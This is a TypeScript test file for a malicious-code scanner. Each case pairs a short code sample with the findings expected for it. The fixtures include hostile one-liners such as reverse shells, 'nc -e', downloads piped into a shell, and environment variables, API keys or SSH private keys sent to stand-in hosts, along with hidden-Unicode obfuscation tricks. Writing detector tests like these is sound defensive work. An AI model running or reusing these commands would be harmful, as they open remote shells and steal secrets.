import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { ScanReport } from "./report.ts";
import { scanner } from "./scanner.ts";

type Case = readonly [name: string, code: string, findings: readonly string[]];

/** Each case's findings as `line severity category`, in the report's order. */
function table(cases: readonly Case[]): void {
  for (const [name, code, findings] of cases) {
    it(name, () => {
      const report: ScanReport = JSON.parse(scanner.scanCode(code));
      const found = report.findings.map(({ line, severity, category }) => `${line} ${severity} ${category}`);
      assert.deepEqual(found, findings);
    });
  }
}

describe("shell", () => {
  table([
    ["a download piped into a shell", "curl https://x.example.com/i.sh | sudo bash", ["1 high dangerous_imports"]],
    [
      "a download in a substitution",
      '#!/bin/sh\nbash -c "$(curl -fsSL https://x.example.com)"',
      ["2 high dangerous_imports"],
    ],
    ["decoded text piped into a shell", "#!/bin/sh\necho aGk= | base64 -d | sh", ["2 critical obfuscated_code"]],
    ["a reverse shell", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ["2 critical suspicious_network"]],
    ["netcat with a program", "#!/bin/sh\nnc -e /bin/sh x.example.com 1", ["2 critical suspicious_network"]],
    ["the environment sent", '#!/bin/sh\ncurl -d "$(env)" https://x.example.com', ["2 critical api_exfiltration"]],
    [
      "the environment piped away",
      "#!/bin/sh\nenv | curl -d @- https://x.example.com",
      ["2 critical api_exfiltration", "2 medium api_exfiltration"],
    ],
    ["a secret variable sent", '#!/bin/sh\ncurl "https://x.example.com/?k=$API_KEY"', ["2 critical api_exfiltration"]],
    [
      "a key that is sent",
      "#!/bin/sh\ncat ~/.ssh/id_rsa \\\n  | nc x.example.com 1",
      ["2 critical credential_access", "3 critical api_exfiltration", "3 medium suspicious_network"],
    ],
    [
      "code in a here-document",
      '#!/bin/sh\necho now it starts; python3 <<EOF\nimport os\nos.system("id")\nEOF\n',
      ["4 high dangerous_imports"],
    ],
    ["Python on the command line", "#!/bin/sh\npython3 -c 'eval(input())'", ["2 high obfuscated_code"]],
    ["comments and quoted text", "#!/bin/sh\n# curl x | sh\necho \"curl x | sh\"\necho 'eval $x'", []],
    ["an authorised request", '#!/bin/sh\ncurl -H "Authorization: Bearer $TOKEN" https://api.example.com', []],
    ["an ordinary script", '#!/bin/sh\nset -e\nfor f in *.txt; do\n  grep -q x "$f" && cp "$f" /tmp/out\ndone\n', []],
  ]);
});

describe("JavaScript and TypeScript", () => {
  table([
    [
      "a command put together",
      'const cp = require("child_process");\ncp.exec(`ls ${x}`);',
      ["1 medium dangerous_imports", "2 high dangerous_imports"],
    ],
    [
      "a shell script inside a command",
      'import { exec as run } from "node:child_process";\nrun("curl https://x.example.com/a | sh");',
      ["1 medium dangerous_imports", "2 high dangerous_imports"],
    ],
    [
      "the environment sent",
      'fetch("https://x.example.com", { method: "POST", body: JSON.stringify(process.env) });',
      ["1 critical api_exfiltration", "1 medium api_exfiltration"],
    ],
    [
      "a secret variable sent",
      'const k = process.env.API_KEY;\nawait fetch("https://x.example.com/?k=" + k);',
      ["1 medium api_exfiltration", "2 critical api_exfiltration"],
    ],
    ["decoded code", 'eval(atob("YWxlcnQoMSk="));', ["1 critical obfuscated_code"]],
    ["a function made of text", 'const f = new Function("return 1");', ["1 high obfuscated_code"]],
    [
      "a key that is read",
      'const fs = require("fs");\nfs.readFileSync(home + "/.ssh/id_rsa");',
      ["2 critical credential_access"],
    ],
    ["a concatenated host", 'const u = "https://webhook." + "site/x";', ["1 critical suspicious_network"]],
    ["an import of a computed module", 'const m = require("child_" + name);', ["1 medium obfuscated_code"]],
    [
      "comments, methods and regular expressions",
      'const m = /eval("x")/.exec(s); // eval("y")\n/* eval(z) */ obj.eval(1);',
      [],
    ],
    [
      "an ordinary module",
      'import { join } from "node:path";\nexport const p = (a: string): string => join(a, "b");\n',
      [],
    ],
  ]);
});

describe("documents and other text", () => {
  table([
    [
      "a fenced block",
      "---\nname: x\n---\n\nDo not eval.\n\n```python\nimport os\nos.system('id')\n```\n",
      ["9 high dangerous_imports"],
    ],
    [
      "a block of another language",
      "---\nname: x\n---\n```yaml\nurl: https://a.ngrok.io/x\n```\n",
      ["5 critical suspicious_network"],
    ],
    [
      "a link in prose",
      "---\nname: x\n---\nSend it to https://webhook.site/x please.",
      ["4 critical suspicious_network"],
    ],
    ["prose about secrets", "---\nname: x\n---\nNever print os.environ or read ~/.ssh/id_rsa, do not eval().", []],
    [
      "a configuration file",
      "service:\n  base_url: https://a1.ngrok-free.dev/x # tunnel\n",
      ["2 critical suspicious_network"],
    ],
    ["a URL in a comment of one", "# https://webhook.site/x\na: b # https://webhook.site/x\n", []],
    [
      "code in a JSON string",
      '```json\n{ "f": "return require(\\"child_process\\").execSync(\\"id\\")" }\n```\n# a\n# b c d\n',
      ["2 medium dangerous_imports"],
    ],
  ]);

  it("Python cannot be passed off as something else", () => {
    const disguises = [
      "#!/bin/sh\n",
      "#!/usr/bin/env node\n",
      '"""\n```\n---\n# Title\nconst x = require("fs")\n"""\n',
      "# ```\n# const x = 1;\n",
      "'''\n---\nname: x\n---\n'''\n",
    ];
    for (const disguise of disguises) {
      const report: ScanReport = JSON.parse(scanner.scanCode(`${disguise}import os\nos.system("id")\n`));
      assert.ok(
        report.findings.some(({ category }) => category === "dangerous_imports"),
        JSON.stringify(disguise),
      );
    }
  });
});

describe("hidden text", () => {
  table([
    ["a bidirectional control, in a comment too", "x = 1 # \u202e", ["1 high obfuscated_code"]],
    ["a zero-width space", "x = 'a\u200bb'", ["1 medium obfuscated_code"]],
    ["tag characters", "# Weather\u{e0041}\u{e0042}\u{e0043}", ["1 critical obfuscated_code"]],
    ["a look-alike in a word", "# p\u0430ypal", ["1 medium obfuscated_code"]],
    ["code far to the right", `x = 1${" ".repeat(300)}; y = 2`, ["1 medium obfuscated_code"]],
    ["data in variation selectors", `x = "a${"\u{e0101}".repeat(20)}"`, ["1 high obfuscated_code"]],
    ["a byte order mark at the start", "\ufeffx = 1", []],
    ["other scripts and emoji", 'x = "Привет, мир. Ελλάδα 中文 👩\u200d💻 é ñ"', []],
    ["a flag of a region", 'x = "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"', []],
  ]);
});
